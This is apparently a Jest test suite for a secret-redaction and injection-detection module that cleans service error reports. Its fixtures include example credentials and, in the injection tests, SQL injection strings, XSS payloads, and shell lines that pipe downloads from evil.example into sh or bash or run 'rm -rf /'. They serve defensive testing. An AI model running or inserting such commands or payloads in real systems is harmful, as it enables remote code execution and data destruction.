import { describe, expect, it } from '@jest/globals';
import type { EventData } from '@grace/contracts';
import { huntReport, huntText, type Finding } from './hunter.js';

type ErrorReport = EventData<'error.reported'>;

const report = (overrides: Partial<ErrorReport> = {}): ErrorReport => ({
  service: 'checkout',
  environment: 'production',
  kind: 'ConnectionRefused',
  message: 'connect ECONNREFUSED 10.0.0.7:5432',
  severity: 'error',
  occurred_at: '2024-05-01T10:00:00.000Z',
  ...overrides,
});

const kinds = (findings: Finding[]) => findings.map((f) => f.kind);

const AWS_KEY = 'AKIAIOSFODNN7EXAMPLE';
const JWT =
  'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c';
const PG_PASSWORD = 's3cr3t-Pg-pass';

describe('huntReport', () => {
  it('a payload with an AWS key, a JWT and a password in a Postgres URL has all three redacted and gives three findings, none containing the secret', () => {
    const input = report({
      message: `upload as ${AWS_KEY} failed`,
      stack: `Error: upload failed\n    at upload (/app/src/s3.ts:10:5) token ${JWT}`,
      attributes: { db_url: `postgres://app:${PG_PASSWORD}@db:5432/orders`, retries: 3 },
    });

    const { data, findings } = huntReport(input);

    expect(data.message).toBe('upload as [REDACTED:aws_access_key] failed');
    expect(data.attributes?.db_url).toBe('postgres://app:[REDACTED:url_password]@db:5432/orders');
    expect(data.attributes?.retries).toBe(3);
    expect(findings).toEqual([
      { category: 'secret', kind: 'aws_access_key', location: 'message' },
      { category: 'secret', kind: 'jwt', location: 'stack' },
      { category: 'secret', kind: 'url_password', location: 'attributes.db_url' },
    ]);
    const everything = JSON.stringify({ data, findings });
    for (const secret of [AWS_KEY, JWT, PG_PASSWORD]) expect(everything).not.toContain(secret);
  });

  it('returns a copy and leaves the report it was given as it was', () => {
    const input = report({
      message: `key ${AWS_KEY}`,
      stack: [{ function: 'connect', file: '/app/db.ts', line: 12 }],
      attributes: { password: 'hunter2', pod: 'checkout-7d9f' },
    });
    const before = structuredClone(input);

    const { data } = huntReport(input);

    expect(input).toEqual(before);
    expect(data).not.toBe(input);
    expect(data.stack).not.toBe(input.stack);
    expect(data.attributes).not.toBe(input.attributes);
  });

  it('leaves an ordinary report untouched with no findings', () => {
    const input = report({
      stack: [{ function: 'connect', file: 'db.ts', line: 12 }],
      attributes: { pod: 'checkout-7d9f', retries: 3, canary: false, zone: null },
      fingerprint: 'fp-9a1c',
    });

    expect(huntReport(input)).toEqual({ data: input, findings: [] });
  });

  it('redacts the whole value of attributes whose key names a secret, whatever the value looks like', () => {
    const { data, findings } = huntReport(
      report({
        attributes: {
          password: 'hunter2',
          'Set-Cookie': 'sid=abc; Path=/',
          Authorization: 'Basic dXNlcjpwYXNz',
          apiKey: 'k',
          session: 'whatever',
          pin_password: 1234,
          token_count: 5,
          has_token: true,
          cookie: '',
          pod: 'checkout-7d9f',
        },
      }),
    );

    expect(data.attributes).toEqual({
      password: '[REDACTED:sensitive_attribute]',
      'Set-Cookie': '[REDACTED:sensitive_attribute]',
      Authorization: '[REDACTED:sensitive_attribute]',
      apiKey: '[REDACTED:sensitive_attribute]',
      session: '[REDACTED:sensitive_attribute]',
      pin_password: '[REDACTED:sensitive_attribute]',
      token_count: 5,
      has_token: true,
      cookie: '',
      pod: 'checkout-7d9f',
    });
    expect(findings.map((f) => f.location)).toEqual([
      'attributes.password',
      'attributes.Set-Cookie',
      'attributes.Authorization',
      'attributes.apiKey',
      'attributes.session',
      'attributes.pin_password',
    ]);
    expect(new Set(kinds(findings))).toEqual(new Set(['sensitive_attribute']));
  });

  it('scans every frame field and the kind, each with its own location', () => {
    const { data, findings } = huntReport(
      report({
        kind: "Error'; DROP TABLE users; --",
        stack: [
          { function: 'outer', file: '/app/src/a.ts', line: 1 },
          { function: 'inner', file: `/tmp/${AWS_KEY}/b.ts`, module: 'm<script>x</script>', line: 2 },
        ],
      }),
    );

    expect(findings).toEqual([
      { category: 'injection', kind: 'sql', location: 'kind' },
      { category: 'secret', kind: 'aws_access_key', location: 'stack.1.file' },
      { category: 'injection', kind: 'script', location: 'stack.1.module' },
    ]);
    expect(data.stack).toEqual([
      { function: 'outer', file: '/app/src/a.ts', line: 1 },
      { function: 'inner', file: '/tmp/[REDACTED:aws_access_key]/b.ts', module: 'm<script>x</script>', line: 2 },
    ]);
  });

  it('keeps every field within the contract even when redaction makes the text longer', () => {
    const message = 'password=x '.repeat(1_490).slice(0, 16_384);
    const { data, findings } = huntReport(
      report({
        message,
        kind: 'token=k '.repeat(32),
        stack: [{ function: 'pwd=y;'.repeat(85) }],
        attributes: { note: 'secret=z '.repeat(455) },
      }),
    );

    expect(data.message.length).toBeLessThanOrEqual(16_384);
    expect(data.message.startsWith('password=[REDACTED:connection_password] ')).toBe(true);
    expect(data.kind.length).toBeLessThanOrEqual(256);
    expect(data.stack).toEqual([{ function: expect.stringMatching(/^pwd=\[REDACTED:connection_password\];/) }]);
    expect((data.stack as { function: string }[])[0]?.function.length).toBeLessThanOrEqual(512);
    expect(String(data.attributes?.note).length).toBeLessThanOrEqual(4_096);
    expect(findings.length).toBeGreaterThan(1_490);
  });

  it('keeps a message made only of control characters non-empty, as the contract requires', () => {
    const { data, findings } = huntReport(report({ message: '\u001b[2J\u0007' }));

    expect(data.message).toBe('[neutralized]');
    expect(findings).toEqual([{ category: 'injection', kind: 'log_forging', location: 'message' }]);
  });

  it('gets through a 16 KiB message of secrets and near-misses', () => {
    const chunk = `user=app password=p4ss ${AWS_KEY} http://u:pw@h/ eyJhbGciOi.eyJzdWIi.sig ' OR 1=1 `;
    const message = chunk.repeat(Math.ceil(16_384 / chunk.length)).slice(0, 16_384);

    const { data, findings } = huntReport(report({ message }));

    expect(data.message).not.toContain(AWS_KEY);
    expect(kinds(findings)).toContain('sql');
  });
});

describe('huntText finds each kind of secret, and redacts only the secret', () => {
  const cases: { kind: string; text: string; secret: string; redacted: string }[] = [
    {
      kind: 'aws_access_key',
      text: 'assumed ASIAY34FZKBOKMUTVV7A for upload',
      secret: 'ASIAY34FZKBOKMUTVV7A',
      redacted: 'assumed [REDACTED:aws_access_key] for upload',
    },
    {
      kind: 'aws_secret_key',
      text: 'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
      secret: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
      redacted: 'aws_secret_access_key = [REDACTED:aws_secret_key]',
    },
    {
      kind: 'aws_secret_key',
      text: '{"SecretAccessKey": "Je7MtGbClwBF/2Zp9Utk/h3yCo8nvbEXAMPLEKEY"}',
      secret: 'Je7MtGbClwBF/2Zp9Utk/h3yCo8nvbEXAMPLEKEY',
      redacted: '{"SecretAccessKey": "[REDACTED:aws_secret_key]"}',
    },
    {
      kind: 'private_key',
      text: 'bad key -----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1L7VLPHCgc\nZ7tVv2ZKmR==\n-----END RSA PRIVATE KEY----- end',
      secret: 'MIIEowIBAAKCAQEAu1SU1L7VLPHCgc',
      redacted: 'bad key [REDACTED:private_key] end',
    },
    {
      kind: 'private_key',
      text: 'cut short: -----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC',
      secret: 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC',
      redacted: 'cut short: [REDACTED:private_key]',
    },
    { kind: 'jwt', text: `session ${JWT} expired`, secret: JWT, redacted: 'session [REDACTED:jwt] expired' },
    {
      kind: 'bearer_token',
      text: 'upstream said 401 to Authorization: Bearer 9f8e7d6c5b4a3210.abc',
      secret: '9f8e7d6c5b4a3210.abc',
      redacted: 'upstream said 401 to Authorization: Bearer [REDACTED:bearer_token]',
    },
    {
      kind: 'bearer_token',
      text: '{"authorization":"Token tok_live_5fJ2"}',
      secret: 'tok_live_5fJ2',
      redacted: '{"authorization":"Token [REDACTED:bearer_token]"}',
    },
    {
      kind: 'bearer_token',
      text: 'retried with bearer ZxY81kLmq0PqrT9w',
      secret: 'ZxY81kLmq0PqrT9w',
      redacted: 'retried with bearer [REDACTED:bearer_token]',
    },
    {
      kind: 'url_password',
      text: 'could not connect to postgres://app:Tr0ub4dor@db:5432/x',
      secret: 'Tr0ub4dor',
      redacted: 'could not connect to postgres://app:[REDACTED:url_password]@db:5432/x',
    },
    {
      kind: 'url_password',
      text: 'redis://:pa@ss:word@cache:6379/0 unreachable',
      secret: 'pa@ss:word',
      redacted: 'redis://:[REDACTED:url_password]@cache:6379/0 unreachable',
    },
    {
      kind: 'connection_password',
      text: 'Server=db;User Id=app;Password=Hunter2!;Database=orders',
      secret: 'Hunter2!',
      redacted: 'Server=db;User Id=app;Password=[REDACTED:connection_password];Database=orders',
    },
    {
      kind: 'connection_password',
      text: 'host=db user=app pwd=letmein dbname=x',
      secret: 'letmein',
      redacted: 'host=db user=app pwd=[REDACTED:connection_password] dbname=x',
    },
    {
      kind: 'connection_password',
      text: 'body {"user": "app", "password": "correct horse \\" battery"}',
      secret: 'correct horse',
      redacted: 'body {"user": "app", "password": "[REDACTED:connection_password]"}',
    },
    {
      kind: 'connection_password',
      text: 'payload "{\\"passwd\\":\\"s3cr3t\\"}"',
      secret: 's3cr3t',
      redacted: 'payload "{\\"passwd\\":\\"[REDACTED:connection_password]\\"}"',
    },
    {
      kind: 'api_key',
      text: 'GET /v1/charge?api_key=live_8a7b6c5d&amount=5 failed',
      secret: 'live_8a7b6c5d',
      redacted: 'GET /v1/charge?api_key=[REDACTED:api_key]&amount=5 failed',
    },
    {
      kind: 'api_key',
      text: "config {'client_secret': 'abc', 'access_token': 'xyz'}",
      secret: "'abc'",
      redacted: "config {'client_secret': '[REDACTED:api_key]', 'access_token': '[REDACTED:api_key]'}",
    },
    {
      kind: 'api_key',
      text: 'X-Api-Key: 4f3e2d1c0b9a',
      secret: '4f3e2d1c0b9a',
      redacted: 'X-Api-Key: [REDACTED:api_key]',
    },
    {
      kind: 'api_key',
      text: 'github rejected ghp_1a2B3c4D5e6F7g8H9i0JkLmNoPqRsTuVwXyZ',
      secret: 'ghp_1a2B3c4D5e6F7g8H9i0JkLmNoPqRsTuVwXyZ',
      redacted: 'github rejected [REDACTED:api_key]',
    },
    {
      kind: 'high_entropy',
      text: 'signature mismatch for Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1u== in request',
      secret: 'Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1u',
      redacted: 'signature mismatch for [REDACTED:high_entropy] in request',
    },
    {
      kind: 'high_entropy',
      text: 'callback https://shop.example/cb?sig=q8Rk2VbN7xT4mZp1LwC9hY3jD6fG0sKaE5uQ&id=7 rejected',
      secret: 'q8Rk2VbN7xT4mZp1LwC9hY3jD6fG0sKaE5uQ',
      redacted: 'callback https://shop.example/cb?sig=[REDACTED:high_entropy]&id=7 rejected',
    },
  ];

  it.each(cases)('$kind: $redacted', ({ kind, text, secret, redacted }) => {
    const result = huntText(text, 'message');

    expect(result.text).toBe(redacted);
    expect(result.text).not.toContain(secret);
    expect(result.findings.length).toBeGreaterThan(0);
    for (const finding of result.findings) expect(finding).toEqual({ category: 'secret', kind, location: 'message' });
  });

  it('reports each occurrence of a secret once, a JWT only as a jwt (not also as high_entropy)', () => {
    const result = huntText(`a=${JWT} b=${JWT} Authorization: Bearer ${JWT}`, 'message');

    expect(kinds(result.findings)).toEqual(['jwt', 'jwt', 'jwt']);
    expect(result.text).toBe('a=[REDACTED:jwt] b=[REDACTED:jwt] Authorization: Bearer [REDACTED:jwt]');
  });

  it('leaves values that are already masked or are placeholders alone', () => {
    for (const text of [
      'postgres://app:****@db/x',
      'password=[REDACTED:connection_password]',
      '"token": ""',
      'password=${DB_PASSWORD}',
      'api_key=null',
      'max_token=5',
      'Authorization: Bearer',
    ]) {
      expect(huntText(text, 'message')).toEqual({ text, findings: [] });
    }
  });
});

describe('huntText on ordinary errors', () => {
  it.each([
    'connect ECONNREFUSED 10.0.0.7:5432',
    'duplicate key value violates unique constraint "users_email_key"',
    'syntax error at or near "SELECT"',
    'password authentication failed for user "app"',
    'invalid token: expected string, got number',
    'password: must be at least 8 characters',
    'missing bearer token',
    "Can't connect to MySQL server on 'db' (111) or retry later",
    "Unknown column `id` in 'field list'",
    'TypeError: $(...).modal is not a function',
    "unknown option '--verbose'",
    'Command failed: rm -rf /tmp/build (exit 1)',
    'request 123e4567-e89b-12d3-a456-426614174000 failed for user 42 after 3 retries',
    'image sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 not found',
    'commit 3f786850e387550fdab836ed7e6dc881de23001b, trace 4bf92f3577b34da6a3ce929d0e0e4736',
    'ENOENT: no such file or directory, open /home/runner/work/grace/grace/services/trigger-mesh/src/domain/hunter.ts',
    'GET /api/v1/users/12345/orders/67890/items/Abc returned 404',
    'pod checkout-service-7d9f8b6c4-x2kqz-production-eu-west-1 was OOMKilled',
    'No bean named AbstractAutowireCapableBeanFactory2Impl in SomeVeryLongJavaClassNameFactoryBean',
    'GET https://example.com:8443/path?page=2 timed out',
    'first line\nsecond line\nerror: a lower-case level is no forged line',
  ])('%j', (text) => {
    expect(huntText(text, 'message')).toEqual({ text, findings: [] });
  });

  it.each([
    'Error: boom\n    at Object.<anonymous> (/app/dist/handlers/error-reported.js:12:5)\n    at Module._compile (node:internal/modules/cjs/loader:1256:14)\n    at /app/node_modules/.pnpm/pg@8.11.3/node_modules/pg/lib/client.js:10:3\n    at async Promise.all (index 0)',
    'Traceback (most recent call last):\n  File "/usr/lib/python3.11/site-packages/sqlalchemy/engine/base.py", line 1965, in _exec_single_context\n    self.dialect.do_execute(cursor, statement, parameters)\n  File "/app/app/handlers.py", line 42, in handle\n    raise ValueError(f"bad id {order_id}")\nValueError: bad id 42',
    'java.lang.IllegalStateException: boom\r\n\tat com.example.payments.PaymentServiceImpl.charge(PaymentServiceImpl.java:42)\r\n\tat com.example.Foo$$Lambda$14/0x0000000800c1840.apply(Unknown Source)\r\n\tat java.base/java.lang.Thread.run(Thread.java:833)',
    'goroutine 1 [running]:\nmain.main()\n\t/go/pkg/mod/github.com/jackc/pgx/v5@v5.5.0/pgconn/pgconn.go:12 +0x1d\nexit status 2',
  ])('stack trace %#', (stack) => {
    const result = huntText(stack, 'stack');

    expect(result.findings).toEqual([]);
    // Windows line ends are plain line ends, not an attempt to forge one.
    expect(result.text).toBe(stack.replace(/\r\n/g, '\n'));
  });
});

describe('huntText flags injection attempts and leaves their text', () => {
  it.each([
    ['sql', "login failed for ' OR 1=1 --"],
    ['sql', "user admin'-- not found"],
    ['sql', 'bad id 1 UNION ALL SELECT password FROM users'],
    ['sql', "name '; DROP TABLE users; --"],
    ['sql', "id=1' AND SLEEP(5) AND '1'='1"],
    ['sql', "x'; SELECT pg_sleep(10)"],
    ['script', 'comment <script>alert(document.cookie)</script>'],
    ['script', 'redirect to javascript:alert(1)'],
    ['script', 'avatar <img src=x onerror=alert(1)>'],
    ['script', 'name "><svg onload=alert(1)>'],
    ['script', 'embed <iframe src="//evil.example">'],
    ['shell', 'filename a.txt; rm -rf / failed'],
    ['shell', 'host $(whoami).evil.example unresolved'],
    ['shell', 'name `curl http://evil.example/x` invalid'],
    ['shell', 'curl -s http://evil.example/x.sh | sh'],
    ['shell', 'ping 127.0.0.1 && curl http://evil.example'],
    ['shell', 'wget -qO- http://evil.example/i | bash'],
  ])('%s: %j', (kind, text) => {
    const result = huntText(text, 'attributes.input');

    expect(result.text).toBe(text);
    expect(result.findings).toContainEqual({ category: 'injection', kind, location: 'attributes.input' });
    expect(result.findings.every((f) => f.category === 'injection')).toBe(true);
  });

  it('reports an injection kind once per location, however often it appears', () => {
    const result = huntText("' OR 1=1 -- and ' OR 2=2 -- and UNION SELECT 1", 'message');

    expect(result.findings).toEqual([{ category: 'injection', kind: 'sql', location: 'message' }]);
  });
});

describe('huntText neutralises log forging', () => {
  it('flags a line break followed by a forged log line, and keeps the line break', () => {
    for (const text of [
      'login failed for bob\n2024-01-01 INFO login succeeded for admin',
      'login failed for bob\r\n[INFO] login succeeded for admin',
      'user bob\nlevel=info msg="admin logged in"',
      'user bob\n{"level":"info","msg":"admin logged in"}',
      'user bob\n  WARN disk full',
    ]) {
      const result = huntText(text, 'message');
      expect(result.findings).toEqual([{ category: 'injection', kind: 'log_forging', location: 'message' }]);
      expect(result.text).toBe(text.replace(/\r\n/g, '\n'));
    }
  });

  it('removes ANSI escapes, C0 controls other than tab and line feed, and a lone carriage return', () => {
    const result = huntText(
      'ok\u001b[2K\u001b[1Gline\u001b]0;title\u0007 \u001b[31mred\u001b[0m\rover\u0000\u0008\ttab\nnext\u007f\u009b',
      'stack',
    );

    expect(result.text).toBe('okline redover\ttab\nnext');
    expect(result.findings).toEqual([{ category: 'injection', kind: 'log_forging', location: 'stack' }]);
  });

  it('finds a secret an escape sequence was meant to hide', () => {
    const result = huntText('key AKIA\u001b[0mIOSFODNN7EXAMPLE', 'message');

    expect(result.text).toBe('key [REDACTED:aws_access_key]');
    expect(kinds(result.findings)).toEqual(['aws_access_key', 'log_forging']);
  });
});
